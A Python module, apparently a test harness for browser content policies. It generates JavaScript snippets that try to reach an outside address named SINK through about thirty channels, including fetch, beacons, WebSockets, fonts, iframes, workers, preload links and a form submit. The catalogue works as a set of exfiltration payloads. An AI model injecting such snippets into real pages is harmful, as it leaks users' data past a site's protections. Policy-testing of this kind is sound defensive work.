"""What a script in the page may try in order to send something out: JavaScript, SINK being an address elsewhere.

Each of them arrives where no policy forbids it; the form comes last, because it leaves the page.
"""

BLOB = "const of = (text) => URL.createObjectURL(new Blob([text], { type: 'text/javascript' })); "
IN_A_WORKER = "fetch('SINK', { mode: 'no-cors' })"


def element(tag: str, **attributes: str) -> str:
    """Put an element into the page."""
    return f"document.body.append(Object.assign(document.createElement('{tag}'), {attributes}))"


def link(relation: str, **attributes: str) -> str:
    """Put a link into it."""
    return element("link", rel=relation, href="SINK", **attributes)


def markup(text: str) -> str:
    """Put markup into it."""
    return f"document.body.insertAdjacentHTML('beforeend', `{text}`)"


def script(text: str, kind: str = "") -> str:
    """Put a script into it that stands in the page itself."""
    return element("script", type=kind, text=text)


ATTEMPTS = {
    "fetch": "fetch('SINK', { mode: 'no-cors' })",
    "XMLHttpRequest": "const x = new XMLHttpRequest(); x.open('GET', 'SINK'); x.send()",
    "sendBeacon": "navigator.sendBeacon('SINK', 'query')",
    "fetchLater": "fetchLater('SINK', { activateAfter: 0 })",
    "EventSource": "new EventSource('SINK')",
    "WebSocket": "new WebSocket('SINK'.replace('http', 'ws'))",
    "image": "new Image().src = 'SINK'",
    "image of an SVG": markup("<svg><image href=SINK /></svg>"),
    "video": element("video", src="SINK"),
    "poster": element("video", poster="SINK"),
    "audio": "new Audio('SINK').load()",
    "style": "document.documentElement.style.backgroundImage = 'url(SINK)'",
    "style sheet": "document.adoptedStyleSheets = [new CSSStyleSheet()]; "
                   "document.adoptedStyleSheets[0].replaceSync('body { background: url(SINK) }')",
    "style element": markup("<style>body::before { content: url(SINK) }</style>"),
    "font": "new FontFace('x', 'url(SINK)').load()",
    "frame": element("iframe", src="SINK"),
    "frame of its own": element("iframe", srcdoc="<img src=SINK>"),
    "object": element("object", data="SINK"),
    "embed": element("embed", src="SINK"),
    "script": element("script", src="SINK"),
    "script in the page": script("new Image().src = 'SINK'"),
    "module": "import('SINK')",
    "worker": f"{BLOB} new Worker(of(`{IN_A_WORKER}`))",
    "worker that imports": f"{BLOB} new Worker(of(`importScripts('SINK')`))",
    "module worker": f"{BLOB} new Worker(of(`import 'SINK'`), {{ type: 'module' }})",
    "shared worker": f"{BLOB} new SharedWorker(of(`{IN_A_WORKER}`))",
    "worklet": "CSS.paintWorklet.addModule('SINK')",
    "ping": "const a = document.createElement('a'); Object.assign(a, { href: '#ping', ping: 'SINK' }); a.click()",
    "style sheet link": link("stylesheet"),
    "prefetch": link("prefetch"),
    "preload": link("preload", **{"as": "image"}),
    "module preload": link("modulepreload"),
    "speculation rules": script('{"prefetch": [{"urls": ["SINK"], "eagerness": "immediate"}]}', "speculationrules"),
    "form": "const f = document.createElement('form'); Object.assign(f, { action: 'SINK', method: 'post' }); "
            "document.body.append(f); f.submit()",
}


def all_to(address: str) -> str:
    """Makes every attempt, each under an address of its own below ``address``: a function for the page."""
    calls = [f"""try {{ {code.replace("SINK", address + path_of(name))} }} catch {{}}""" for name, code in
             ATTEMPTS.items()]
    first, last = " ".join(f"(() => {{ {call} }})();" for call in calls[:-1]), calls[-1]
    return f"() => new Promise((done) => {{ {first} setTimeout(() => {{ {last} done(); }}, 2000); }})"


def path_of(name: str) -> str:
    """The path under which an attempt would arrive."""
    return name.replace(" ", "-")
